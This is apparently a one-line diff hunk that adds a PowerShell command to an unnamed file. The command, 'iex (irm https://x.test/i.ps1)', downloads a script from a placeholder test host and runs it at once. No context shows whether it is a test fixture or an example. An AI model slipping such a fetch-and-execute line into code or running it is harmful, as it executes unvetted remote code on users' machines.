@@ -1,0 +1,1 @@
+iex (irm https://x.test/i.ps1)
